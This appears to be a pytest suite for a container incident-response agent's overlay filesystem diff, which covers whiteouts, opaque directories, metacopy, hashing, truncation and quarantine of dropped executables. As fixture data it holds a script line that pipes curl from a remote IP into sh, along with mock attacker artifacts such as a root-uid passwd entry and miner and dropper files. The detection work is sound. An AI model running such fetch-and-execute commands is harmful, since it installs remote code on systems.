"""The overlay diff: ``docker diff`` semantics over an upperdir and its lowerdirs.

Most tests build layers as plain directories, with whiteouts made by mknod and overlay xattrs set
by hand (as root; skipped otherwise); the last ones mount a real overlay and make the changes
through it, so that what the kernel writes is what is diffed.
"""

from __future__ import annotations

import contextlib
import errno
import hashlib
import os
import shutil
import stat
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from responder.agent.models import DiffEntry, FilesystemDiff
from responder.agent.mounts import root_overlay, volume_mount_points
from responder.agent.overlay import (
    SKIP_BUDGET,
    SKIP_METACOPY,
    SKIP_TOO_LARGE,
    DiffLimits,
    diff_upperdir,
    open_upper_file,
)
from responder.models.times import format_ns

ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
SCRIPT = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"


def write(root: Path, rel: str, data: bytes = b"data\n", mode: int = 0o644) -> Path:
    path = root / rel.lstrip("/")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    path.chmod(mode)
    return path


def mkdirs(root: Path, *rels: str) -> None:
    for rel in rels:
        (root / rel.lstrip("/")).mkdir(parents=True, exist_ok=True)


def whiteout(root: Path, rel: str) -> None:
    path = root / rel.lstrip("/")
    path.parent.mkdir(parents=True, exist_ok=True)
    try:
        os.mknod(path, stat.S_IFCHR | 0o000, os.makedev(0, 0))
    except PermissionError:
        pytest.skip("mknod of a 0/0 character device is not allowed here")


def xattr(root: Path, rel: str, name: str, value: bytes) -> None:
    path = root / rel.lstrip("/")
    if not path.exists():
        path.mkdir(parents=True)
    try:
        os.setxattr(path, name, value, follow_symlinks=False)
    except OSError as exc:
        if exc.errno in (errno.EPERM, errno.ENOTSUP, errno.EACCES):
            pytest.skip(f"cannot set {name} here (trusted.* needs root): {exc}")
        raise


def opaque(root: Path, rel: str) -> None:
    xattr(root, rel, "trusted.overlay.opaque", b"y")


def same_meta(upper: Path, lower: Path, *rels: str) -> None:
    """Give upper directories the image's metadata, as a copy-up does."""
    for rel in rels:
        source = os.lstat(lower / rel.lstrip("/"))
        target = upper / rel.lstrip("/")
        target.chmod(stat.S_IMODE(source.st_mode))
        os.utime(target, ns=(source.st_atime_ns, source.st_mtime_ns), follow_symlinks=False)


def kinds(diff: FilesystemDiff) -> list[tuple[str, str]]:
    return [(e.kind, e.path) for e in diff.changes]


def by_path(diff: FilesystemDiff) -> dict[str, DiffEntry]:
    return {e.path: e for e in diff.changes}


@pytest.fixture
def layers(tmp_path: Path) -> tuple[Path, Path, Path]:
    upper, lower, lower2 = tmp_path / "upper", tmp_path / "lower", tmp_path / "lower2"
    for path in (upper, lower, lower2):
        path.mkdir()
    return upper, lower, lower2


def run(upper: Path, *lowers: Path, **kwargs: Any) -> FilesystemDiff:
    return diff_upperdir(upper, list(lowers), container_id="c0ffee", **kwargs)


# -- added, changed, deleted -------------------------------------------------------------------


def test_a_new_file_is_added_and_its_existing_parent_changed(layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    write(lower, "/etc/passwd")
    mkdirs(upper, "/etc")
    same_meta(upper, lower, "/etc")
    write(upper, "/etc/cron.d/evil")

    diff = run(upper, lower)

    assert kinds(diff) == [("C", "/etc"), ("A", "/etc/cron.d"), ("A", "/etc/cron.d/evil")]
    assert diff.summary.added == 2
    assert diff.summary.changed == 1
    assert diff.truncated is False


def test_a_file_that_exists_in_the_image_is_changed(layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    write(lower, "/etc/passwd", b"root:x:0:0\n")
    mkdirs(upper, "/etc")
    same_meta(upper, lower, "/etc")
    write(upper, "/etc/passwd", b"root:x:0:0\nmallory:x:0:0\n")

    diff = run(upper, lower)

    assert kinds(diff) == [("C", "/etc"), ("C", "/etc/passwd")]


def test_a_whiteout_of_a_lower_file_is_a_deletion(layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    write(lower, "/etc/hosts")
    mkdirs(upper, "/etc")
    same_meta(upper, lower, "/etc")
    whiteout(upper, "/etc/hosts")

    diff = run(upper, lower)

    assert kinds(diff) == [("C", "/etc"), ("D", "/etc/hosts")]
    assert diff.changes[1].type is None
    assert diff.summary.deleted == 1


def test_a_whiteout_of_a_lower_directory_is_one_deletion(layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    write(lower, "/usr/share/doc/bash/README")
    write(lower, "/usr/share/doc/curl/NEWS")
    mkdirs(upper, "/usr/share")
    same_meta(upper, lower, "/usr", "/usr/share")
    whiteout(upper, "/usr/share/doc")

    diff = run(upper, lower)

    assert kinds(diff) == [("C", "/usr"), ("C", "/usr/share"), ("D", "/usr/share/doc")]


def test_a_whiteout_of_a_path_not_in_any_lower_is_not_reported(layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    mkdirs(lower, "/tmp")
    whiteout(upper, "/tmp/never-existed")
    same_meta(upper, lower, "/tmp")

    assert kinds(run(upper, lower)) == []


def test_a_path_whited_out_by_a_higher_image_layer_is_added_when_recreated(
        layers: tuple[Path, ...]) -> None:
    upper, top, bottom = layers
    write(bottom, "/etc/motd")
    mkdirs(top, "/etc")
    whiteout(top, "/etc/motd")  # the image's second layer deleted it
    mkdirs(upper, "/etc")
    same_meta(upper, top, "/etc")
    write(upper, "/etc/motd")

    assert kinds(run(upper, top, bottom)) == [("C", "/etc"), ("A", "/etc/motd")]


def test_a_file_in_a_lower_layer_counts_whichever_layer_holds_it(
        layers: tuple[Path, ...]) -> None:
    upper, top, bottom = layers
    write(bottom, "/bin/ls", ELF, 0o755)
    mkdirs(top, "/bin")
    mkdirs(upper, "/bin")
    same_meta(upper, top, "/bin")
    write(upper, "/bin/ls", ELF + b"trojan", 0o755)

    assert kinds(run(upper, top, bottom)) == [("C", "/bin"), ("C", "/bin/ls")]


# -- opaque directories ------------------------------------------------------------------------


def test_an_opaque_directory_is_changed_and_its_lower_children_deleted(
        layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    write(lower, "/opt/app/main.py")
    write(lower, "/opt/app/lib/util.py")
    write(lower, "/opt/app/keep.cfg")
    mkdirs(upper, "/opt")
    same_meta(upper, lower, "/opt")
    opaque(upper, "/opt/app")
    write(upper, "/opt/app/keep.cfg")
    write(upper, "/opt/app/fresh.py")

    diff = run(upper, lower)

    assert kinds(diff) == [
        ("C", "/opt"), ("C", "/opt/app"), ("A", "/opt/app/fresh.py"), ("C", "/opt/app/keep.cfg"),
        ("D", "/opt/app/lib"), ("D", "/opt/app/main.py"),
    ]


def test_an_opaque_directory_not_in_the_image_is_added(layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    mkdirs(lower, "/srv")
    mkdirs(upper, "/srv")
    same_meta(upper, lower, "/srv")
    opaque(upper, "/srv/new")

    assert kinds(run(upper, lower)) == [("C", "/srv"), ("A", "/srv/new")]


def test_below_an_opaque_directory_the_image_is_cut_off_at_every_level(
        layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    write(lower, "/a/b/old")
    write(lower, "/a/b/kept")
    mkdirs(upper, "/a/b")
    same_meta(upper, lower, "/a/b")
    opaque(upper, "/a")
    write(upper, "/a/b/kept")

    assert kinds(run(upper, lower)) == [
        ("C", "/a"), ("C", "/a/b"), ("C", "/a/b/kept"), ("D", "/a/b/old")]


def test_an_opaque_directory_in_an_image_layer_hides_the_layers_below(
        layers: tuple[Path, ...]) -> None:
    upper, top, bottom = layers
    write(bottom, "/var/lib/old.db")
    opaque(top, "/var/lib")
    mkdirs(upper, "/var/lib")
    same_meta(upper, top, "/var", "/var/lib")
    write(upper, "/var/lib/old.db")

    assert kinds(run(upper, top, bottom)) == [
        ("C", "/var"), ("C", "/var/lib"), ("A", "/var/lib/old.db")]


def test_user_overlay_xattrs_count_only_when_the_mount_uses_them(
        layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    write(lower, "/data/a")
    mkdirs(upper, "/data")
    same_meta(upper, lower, "/data")
    xattr(upper, "/data", "user.overlay.opaque", b"y")
    same_meta(upper, lower, "/data")

    assert kinds(run(upper, lower, userxattr=True)) == [("C", "/data"), ("D", "/data/a")]
    # On a normal mount the container itself could have set it: not an overlay marker.
    assert kinds(run(upper, lower)) == []


def test_a_forged_user_xattr_whiteout_cannot_hide_a_dropped_file_on_a_normal_mount(
        layers: tuple[Path, ...]) -> None:
    upper, _, _ = layers
    xattr(upper, "/tmp", "user.overlay.opaque", b"x")
    write(upper, "/tmp/implant", b"", 0o755)
    xattr(upper, "/tmp/implant", "user.overlay.whiteout", b"")
    write(upper, "/tmp/miner", ELF, 0o755)
    xattr(upper, "/tmp/miner", "user.overlay.metacopy", b"")

    diff = run(upper)

    assert kinds(diff) == [("A", "/tmp"), ("A", "/tmp/implant"), ("A", "/tmp/miner")]
    assert by_path(diff)["/tmp/miner"].sha256 == hashlib.sha256(ELF).hexdigest()


def test_xattr_whiteouts_count_in_a_directory_marked_opaque_x(layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    write(lower, "/etc/shadow")
    write(lower, "/etc/group")
    xattr(upper, "/etc", "trusted.overlay.opaque", b"x")
    same_meta(upper, lower, "/etc")
    write(upper, "/etc/shadow", b"")
    xattr(upper, "/etc/shadow", "trusted.overlay.whiteout", b"")

    assert kinds(run(upper, lower)) == [("C", "/etc"), ("D", "/etc/shadow")]


# -- directories -------------------------------------------------------------------------------


def test_nested_added_directories_are_each_added(layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    mkdirs(lower, "/tmp")
    mkdirs(upper, "/tmp")
    same_meta(upper, lower, "/tmp")
    write(upper, "/tmp/.x/y/z/payload")

    assert kinds(run(upper, lower)) == [
        ("C", "/tmp"), ("A", "/tmp/.x"), ("A", "/tmp/.x/y"), ("A", "/tmp/.x/y/z"),
        ("A", "/tmp/.x/y/z/payload")]


def test_a_copied_up_directory_without_changes_is_not_reported(
        layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    write(lower, "/etc/ssl/certs/ca.pem")
    mkdirs(upper, "/etc/ssl/certs")
    same_meta(upper, lower, "/etc", "/etc/ssl", "/etc/ssl/certs")

    assert kinds(run(upper, lower)) == []


def test_a_directory_whose_mode_or_mtime_changed_is_changed(layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    mkdirs(lower, "/var/www", "/var/tmp")
    mkdirs(upper, "/var/www", "/var/tmp")
    same_meta(upper, lower, "/var", "/var/www", "/var/tmp")
    (upper / "var/www").chmod(0o777)
    # A file created then deleted leaves only the directory's mtime behind.
    lower_tmp = os.lstat(lower / "var/tmp")
    os.utime(upper / "var/tmp", ns=(lower_tmp.st_atime_ns, lower_tmp.st_mtime_ns + 5 * 10**9))

    diff = run(upper, lower)

    assert kinds(diff) == [("C", "/var"), ("C", "/var/tmp"), ("C", "/var/www")]
    assert by_path(diff)["/var/www"].mode == "0777"


def test_a_directory_replacing_an_image_file_is_changed(layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    write(lower, "/etc/resolv.conf")
    mkdirs(upper, "/etc")
    same_meta(upper, lower, "/etc")
    opaque(upper, "/etc/resolv.conf")

    diff = run(upper, lower)

    assert kinds(diff) == [("C", "/etc"), ("C", "/etc/resolv.conf")]
    assert diff.changes[1].type == "dir"


# -- what is recorded about files --------------------------------------------------------------


def test_elf_and_script_files_are_recognised_hashed_and_described(
        layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    mkdirs(lower, "/tmp")
    mkdirs(upper, "/tmp")
    same_meta(upper, lower, "/tmp")
    miner = write(upper, "/tmp/xmrig", ELF)
    os.chown(miner, 1000, 1001)
    miner.chmod(0o4755)  # after chown, which clears set-uid
    write(upper, "/tmp/run.sh", SCRIPT, 0o700)
    write(upper, "/tmp/notes.txt", b"hello", 0o600)
    write(upper, "/tmp/lib.so", ELF, 0o644)

    diff = run(upper, lower)
    entries = by_path(diff)

    xmrig = entries["/tmp/xmrig"]
    assert xmrig.model_dump() == {
        "path": "/tmp/xmrig", "kind": "A", "type": "file", "size": len(ELF), "mode": "4755",
        "uid": 1000, "gid": 1001, "mtime": format_ns(os.lstat(miner).st_mtime_ns),
        "sha256": hashlib.sha256(ELF).hexdigest(), "hash_skipped": None, "executable": True,
        "elf": True, "script": False, "link_target": None, "flagged": False, "quarantined": None,
    }
    assert (entries["/tmp/run.sh"].script, entries["/tmp/run.sh"].elf) == (True, False)
    assert entries["/tmp/run.sh"].executable is True
    assert (entries["/tmp/notes.txt"].executable, entries["/tmp/notes.txt"].elf) == (False, False)
    assert entries["/tmp/notes.txt"].sha256 == hashlib.sha256(b"hello").hexdigest()
    # An ELF needs no x bit to be run through ld.so: it counts.
    assert (entries["/tmp/lib.so"].executable, entries["/tmp/lib.so"].elf) == (False, True)
    assert diff.summary.executables_added == 3
    assert diff.summary.bytes_hashed == 2 * len(ELF) + len(SCRIPT) + 5


def test_symlinks_are_reported_and_never_followed(tmp_path: Path,
                                                  layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    secret = write(tmp_path, "/host-secrets/shadow", b"root:$6$hash\n")
    write(tmp_path, "/host-secrets/more/key", b"k")
    mkdirs(lower, "/etc")
    mkdirs(upper, "/etc")
    same_meta(upper, lower, "/etc")
    (upper / "etc/shadow-link").symlink_to(secret)
    (upper / "etc/dir-link").symlink_to(secret.parent)

    diff = run(upper, lower, flag_paths=["/etc/dir-link/more/key"])

    assert kinds(diff) == [("C", "/etc"), ("A", "/etc/dir-link"), ("A", "/etc/shadow-link")]
    link = by_path(diff)["/etc/shadow-link"]
    assert (link.type, link.link_target, link.sha256, link.size) == (
        "symlink", str(secret), None, None)
    assert diff.summary.bytes_hashed == 0


def test_open_upper_file_refuses_a_path_through_a_symlink(tmp_path: Path,
                                                          layers: tuple[Path, ...]) -> None:
    upper, _, _ = layers
    write(tmp_path, "/outside/payload", ELF, 0o755)
    (upper / "tmp").symlink_to(tmp_path / "outside")
    write(upper, "/bin/real", b"ok")

    with open_upper_file(upper, upper / "bin/real") as stream:
        assert stream.read() == b"ok"
    with pytest.raises(OSError):
        open_upper_file(upper, upper / "tmp/payload")


def test_names_that_are_not_utf8_are_shown_escaped(layers: tuple[Path, ...]) -> None:
    upper, _, _ = layers
    os.mkdir(os.fsencode(upper) + b"/bad\xffname")

    assert kinds(run(upper)) == [("A", "/bad\\xffname")]


def test_a_metacopy_file_is_a_metadata_change_and_its_image_data_is_not_hashed(
        layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    write(lower, "/usr/bin/nc", ELF, 0o644)
    mkdirs(upper, "/usr/bin")
    same_meta(upper, lower, "/usr", "/usr/bin")
    # What chmod +x leaves with metacopy=on: the metadata, no data, the size of the lower file.
    with open(upper / "usr/bin/nc", "wb") as stream:
        stream.truncate(len(ELF))
    (upper / "usr/bin/nc").chmod(0o755)
    xattr(upper, "/usr/bin/nc", "trusted.overlay.metacopy", b"")

    diff = run(upper, lower)

    nc = by_path(diff)["/usr/bin/nc"]
    assert (nc.kind, nc.mode, nc.executable, nc.elf) == ("C", "0755", True, True)
    assert (nc.sha256, nc.hash_skipped) == (None, SKIP_METACOPY)
    assert diff.summary.bytes_hashed == 0
    assert diff.summary.executables_added == 1


def test_a_redirected_directory_shows_its_lower_contents_as_added(
        layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    write(lower, "/etc/conf.d/a.conf")
    write(lower, "/etc/conf.d/sub/b.conf")
    mkdirs(upper, "/etc")
    whiteout(upper, "/etc/conf.d")
    xattr(upper, "/etc/conf.new", "trusted.overlay.redirect", b"conf.d")
    write(upper, "/etc/conf.new/c.conf")

    assert kinds(run(upper, lower)) == [
        ("C", "/etc"), ("D", "/etc/conf.d"), ("A", "/etc/conf.new"),
        ("A", "/etc/conf.new/a.conf"), ("A", "/etc/conf.new/c.conf"), ("A", "/etc/conf.new/sub"),
        ("A", "/etc/conf.new/sub/b.conf")]


# -- limits ------------------------------------------------------------------------------------


def test_a_file_over_the_per_file_cap_is_not_hashed(layers: tuple[Path, ...]) -> None:
    upper, _, _ = layers
    write(upper, "/big", b"x" * 101)
    write(upper, "/fits", b"y" * 100)

    diff = run(upper, limits=DiffLimits(hash_file_max_bytes=100))

    entries = by_path(diff)
    assert (entries["/big"].sha256, entries["/big"].hash_skipped) == (None, SKIP_TOO_LARGE)
    assert entries["/fits"].sha256 == hashlib.sha256(b"y" * 100).hexdigest()
    assert diff.summary.bytes_hashed == 100


def test_the_total_hash_budget_goes_to_flagged_and_executable_files_first(
        layers: tuple[Path, ...]) -> None:
    upper, _, _ = layers
    write(upper, "/a/junk", b"j" * 100)
    write(upper, "/z/tool", ELF + b"t" * (100 - len(ELF)), 0o755)
    write(upper, "/m/named", b"n" * 100)

    diff = run(upper, flag_paths=["/m/named"], limits=DiffLimits(hash_total_max_bytes=250))

    entries = by_path(diff)
    assert entries["/m/named"].sha256 is not None
    assert entries["/z/tool"].sha256 is not None
    assert (entries["/a/junk"].sha256, entries["/a/junk"].hash_skipped) == (None, SKIP_BUDGET)
    assert diff.summary.bytes_hashed == 200


def test_truncation_keeps_exact_counts_and_flagged_and_executable_entries_first(
        layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    mkdirs(lower, "/data")
    mkdirs(upper, "/data")
    same_meta(upper, lower, "/data")
    for i in range(40):
        write(upper, f"/data/f{i:02}")
    write(upper, "/data/zz-dropper", ELF, 0o755)
    write(upper, "/data/zz-named")
    whiteout(lower, "/data/unused")  # a whiteout in the image is no change of the container

    diff = run(upper, lower, flag_paths=["/data/zz-named"], limits=DiffLimits(max_entries=4))

    assert diff.truncated is True
    # Kept: the flagged entry, the executable, then the first by path; listed flagged first.
    assert kinds(diff) == [("A", "/data/zz-named"), ("C", "/data"), ("A", "/data/f00"),
                           ("A", "/data/zz-dropper")]
    assert diff.changes[0].flagged is True
    assert diff.summary.model_dump() == {
        "added": 42, "changed": 1, "deleted": 0, "executables_added": 1,
        "bytes_hashed": len(ELF) + 2 * len(b"data\n")}


def test_flag_paths_are_normalised_and_flagged_entries_come_first(
        layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    write(lower, "/etc/hosts")
    mkdirs(upper, "/etc")
    whiteout(upper, "/etc/hosts")
    write(upper, "/tmp/x", ELF, 0o755)

    diff = run(upper, lower, flag_paths=["//tmp/./x", "/etc/../etc/hosts", "relative/ignored"])

    assert [(e.kind, e.path, e.flagged) for e in diff.changes] == [
        ("D", "/etc/hosts", True), ("A", "/tmp/x", True), ("C", "/etc", False),
        ("A", "/tmp", False)]


def test_mount_points_and_all_below_them_are_left_out(layers: tuple[Path, ...]) -> None:
    upper, lower, _ = layers
    write(lower, "/etc/hosts")
    write(lower, "/etc/hostname")
    mkdirs(lower, "/var/cache")
    write(upper, "/etc/hosts", b"10.0.0.1 kube\n")  # the runtime's bind-mount targets
    whiteout(upper, "/etc/hostname")
    write(upper, "/var/cache/nginx/tmp/0001")  # an emptyDir volume's mount point
    mkdirs(upper, "/var/run/secrets/kubernetes.io/serviceaccount")
    same_meta(upper, lower, "/etc", "/var", "/var/cache")

    diff = run(upper, lower, exclude=["/etc/hosts", "/etc/hostname", "/var/cache/nginx/",
                                      "/var/run/secrets/kubernetes.io/serviceaccount", "/"])

    # /etc and /var/cache hold nothing but excluded paths: not changed.
    assert kinds(diff) == [("C", "/var"), ("A", "/var/run"), ("A", "/var/run/secrets"),
                           ("A", "/var/run/secrets/kubernetes.io")]


def test_quarantine_keeps_dropped_executables_within_the_size_cap(
        layers: tuple[Path, ...]) -> None:
    upper, _, _ = layers
    write(upper, "/tmp/small-elf", ELF, 0o644)
    write(upper, "/tmp/run.sh", SCRIPT, 0o755)
    write(upper, "/tmp/huge-tool", ELF + b"\0" * 200, 0o755)
    write(upper, "/tmp/data.txt", b"not code", 0o644)
    kept: dict[str, bytes] = {}

    def keep(host_path: Path, entry: DiffEntry) -> str:
        with open_upper_file(upper, host_path) as stream:
            data = stream.read()
        kept[entry.path] = data
        return hashlib.sha256(data).hexdigest()

    limits = DiffLimits(quarantine=True, quarantine_max_bytes=len(ELF) + 100)
    diff = run(upper, limits=limits, quarantine=keep)

    assert kept == {"/tmp/small-elf": ELF, "/tmp/run.sh": SCRIPT}
    entries = by_path(diff)
    assert entries["/tmp/small-elf"].quarantined == hashlib.sha256(ELF).hexdigest()
    assert entries["/tmp/huge-tool"].quarantined is None
    assert entries["/tmp/data.txt"].quarantined is None

    kept.clear()
    run(upper, limits=DiffLimits(quarantine=False), quarantine=keep)
    assert kept == {}


# -- a real overlay ----------------------------------------------------------------------------


@dataclass
class Overlay:
    lower: Path
    upper: Path
    merged: Path


@pytest.fixture
def real_overlay(tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Overlay]:
    """An overlay mounted here; ``request.param`` adds mount options. Unmounted afterwards."""
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("mounting an overlay needs root and mount(8)")
    ov = Overlay(tmp_path / "lower", tmp_path / "upper", tmp_path / "merged")
    work = tmp_path / "work"
    for path in (ov.lower, ov.upper, ov.merged, work):
        path.mkdir()
    build_image(ov.lower)
    extra = getattr(request, "param", "")
    options = f"lowerdir={ov.lower},upperdir={ov.upper},workdir={work}{extra}"
    result = subprocess.run(["mount", "-t", "overlay", "overlay", "-o", options, str(ov.merged)],
                            capture_output=True, text=True, check=False)
    if result.returncode != 0:
        pytest.skip(f"overlay mount not available here: {result.stderr.strip()}")
    try:
        yield ov
    finally:
        subprocess.run(["umount", "-R", str(ov.merged)], check=True)


def build_image(lower: Path) -> None:
    write(lower, "/etc/passwd", b"root:x:0:0::/root:/bin/sh\n")
    write(lower, "/etc/hosts", b"127.0.0.1 localhost\n")
    write(lower, "/etc/os-release", b"ID=alpine\n")
    write(lower, "/usr/bin/tool", ELF, 0o755)
    write(lower, "/usr/share/doc/a/README")
    write(lower, "/usr/share/doc/b/NEWS")
    write(lower, "/opt/app/x.py")
    write(lower, "/opt/app/sub/y.py")
    write(lower, "/opt/conf.d/z.conf")
    write(lower, "/opt/bin/helper", ELF, 0o644)
    mkdirs(lower, "/tmp", "/data", "/var/log")


@contextlib.contextmanager
def chrooted(root: Path) -> Iterator[int]:
    """A child process whose root is ``root``: its mountinfo shows the mount there as '/'."""
    ready_r, ready_w = os.pipe()
    done_r, done_w = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover (the child only waits)
        try:
            os.close(ready_r)
            os.close(done_w)  # else the read below never sees the end of the pipe
            os.chroot(root)
            os.chdir("/")
            os.write(ready_w, b"1")
            os.read(done_r, 1)
        finally:
            os._exit(0)
    os.close(ready_w)
    os.close(done_r)
    try:
        assert os.read(ready_r, 1) == b"1"
        yield pid
    finally:
        os.close(done_w)
        os.close(ready_r)
        os.waitpid(pid, 0)


def test_a_real_overlay_diff_is_what_was_done_through_the_merged_view(
        real_overlay: Overlay) -> None:
    merged = real_overlay.merged
    write(merged, "/tmp/dropper", ELF + b"payload", 0o755)  # added
    write(merged, "/opt/new/run.sh", SCRIPT, 0o755)  # added, in a new directory
    with open(merged / "etc/passwd", "ab") as stream:  # changed
        stream.write(b"mallory:x:0:0::/:/bin/sh\n")
    (merged / "etc/hosts").unlink()  # deleted file: a whiteout
    shutil.rmtree(merged / "usr/share/doc")  # deleted directory: one whiteout
    shutil.rmtree(merged / "opt/app")  # removed and made again: an opaque directory
    write(merged, "/opt/app/fresh.py")
    (merged / "etc/evil").symlink_to("/etc/shadow")
    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", str(merged / "data")], check=True)
    write(merged, "/data/in-volume")

    diff = diff_upperdir(real_overlay.upper, [real_overlay.lower], container_id="c0ffee",
                         exclude=["/data"], flag_paths=["/tmp/dropper"])

    assert kinds(diff) == [
        ("A", "/tmp/dropper"),
        ("C", "/etc"), ("A", "/etc/evil"), ("D", "/etc/hosts"), ("C", "/etc/passwd"),
        ("C", "/opt"), ("C", "/opt/app"), ("A", "/opt/app/fresh.py"), ("D", "/opt/app/sub"),
        ("D", "/opt/app/x.py"), ("A", "/opt/new"), ("A", "/opt/new/run.sh"),
        ("C", "/tmp"), ("C", "/usr"), ("C", "/usr/share"), ("D", "/usr/share/doc"),
    ]
    dropper = diff.changes[0]
    assert (dropper.flagged, dropper.elf, dropper.executable) == (True, True, True)
    assert dropper.sha256 == hashlib.sha256(ELF + b"payload").hexdigest()
    assert by_path(diff)["/etc/evil"].link_target == "/etc/shadow"
    assert diff.summary.model_dump() == {
        "added": 5, "changed": 7, "deleted": 4, "executables_added": 2,
        "bytes_hashed": (len(ELF) + 7 + len(SCRIPT) + len(b"data\n")
                         + len(b"root:x:0:0::/root:/bin/sh\nmallory:x:0:0::/:/bin/sh\n"))}


def test_a_real_containers_overlay_and_volumes_are_found_from_its_mountinfo(
        real_overlay: Overlay) -> None:
    volume = real_overlay.merged / "data/vol"
    volume.mkdir()  # the runtime makes the mount point: an added directory in the upper
    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", str(volume)], check=True)
    write(volume, "/in-volume")
    with chrooted(real_overlay.merged) as pid:
        found = root_overlay(Path("/proc"), pid)
        volumes = volume_mount_points(Path("/proc"), pid)

    assert found is not None
    assert (found.upperdir, found.lowerdirs) == (real_overlay.upper, [real_overlay.lower])
    assert volumes == ["/data/vol"]
    everything = diff_upperdir(found.upperdir, found.lowerdirs, container_id="c0ffee")
    diff = diff_upperdir(found.upperdir, found.lowerdirs, container_id="c0ffee",
                         exclude=volumes, userxattr=found.userxattr)
    assert kinds(everything) == [("C", "/data"), ("A", "/data/vol")]
    # /data stays changed: its mtime moved when the mount point was made.
    assert kinds(diff) == [("C", "/data")]


@pytest.mark.parametrize("real_overlay", [",redirect_dir=on,metacopy=on"], indirect=True)
def test_a_real_overlay_with_renames_and_metadata_only_copy_up(real_overlay: Overlay) -> None:
    merged = real_overlay.merged
    (merged / "opt/bin/helper").chmod(0o755)  # metacopy: metadata only in the upper
    (merged / "opt/conf.d").rename(merged / "opt/conf.new")  # redirect_dir: a redirect xattr
    (merged / "usr/bin/tool").rename(merged / "usr/bin/tool2")

    diff = diff_upperdir(real_overlay.upper, [real_overlay.lower], container_id="c0ffee")

    assert kinds(diff) == [
        ("C", "/opt"), ("C", "/opt/bin"), ("C", "/opt/bin/helper"), ("D", "/opt/conf.d"),
        ("A", "/opt/conf.new"), ("A", "/opt/conf.new/z.conf"), ("C", "/usr"), ("C", "/usr/bin"),
        ("D", "/usr/bin/tool"), ("A", "/usr/bin/tool2")]
    entries = by_path(diff)
    helper = entries["/opt/bin/helper"]
    assert (helper.mode, helper.elf, helper.sha256, helper.hash_skipped) == (
        "0755", True, None, SKIP_METACOPY)
    tool2 = entries["/usr/bin/tool2"]
    assert (tool2.elf, tool2.hash_skipped) == (True, SKIP_METACOPY)
